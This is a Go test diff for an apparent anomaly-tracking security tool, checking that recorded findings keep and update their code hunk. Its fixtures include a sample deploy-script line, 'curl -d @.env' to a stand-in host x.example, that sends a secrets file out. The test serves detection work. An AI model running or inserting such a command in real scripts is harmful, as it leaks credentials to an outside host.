@@ -212,3 +212,30 @@ func TestAuthorAnomaliesAndExport(t *testing.T) {
 		t.Fatalf("export audit from 2: %v %v", seqs, err)
 	}
 }
+
+func TestRecordFindingsKeepsHunk(t *testing.T) {
+	ctx := context.Background()
+	db, _ := openQueue(t)
+	f := finding("network-endpoint", guard.Medium, "deploy/run.sh", "Sends data to a new host")
+	f.Line = 11
+	f.Hunk = []guard.Line{{Number: 10, Text: "set -e"}, {Number: 11, Text: `curl -d @.env "https://x.example/<a>"`}}
+	created := record(t, db, pushRecord("c1", f, finding("sensitive-path", guard.Medium, "deploy/x", "no hunk")))
+	if len(created) != 2 {
+		t.Fatalf("created %d anomalies, want 2", len(created))
+	}
+	if fmt.Sprint(created[0].Hunk) != fmt.Sprint(f.Hunk) || created[1].Hunk != nil {
+		t.Fatalf("created hunks %v and %v, want %v and none", created[0].Hunk, created[1].Hunk, f.Hunk)
+	}
+	got, err := db.Anomaly(ctx, created[0].ID)
+	if err != nil || fmt.Sprint(got.Hunk) != fmt.Sprint(f.Hunk) {
+		t.Fatalf("Anomaly hunk = %v, %v; want %v", got.Hunk, err, f.Hunk)
+	}
+
+	// Seen again at another line: the hunk follows the latest finding.
+	moved := f
+	moved.Line, moved.Hunk = 21, []guard.Line{{Number: 21, Text: "curl -d @.env https://x.example"}}
+	record(t, db, pushRecord("c1", moved))
+	if got, _ := db.Anomaly(ctx, created[0].ID); got.Line != 21 || fmt.Sprint(got.Hunk) != fmt.Sprint(moved.Hunk) {
+		t.Fatalf("merged line %d hunk %v, want 21 %v", got.Line, got.Hunk, moved.Hunk)
+	}
+}
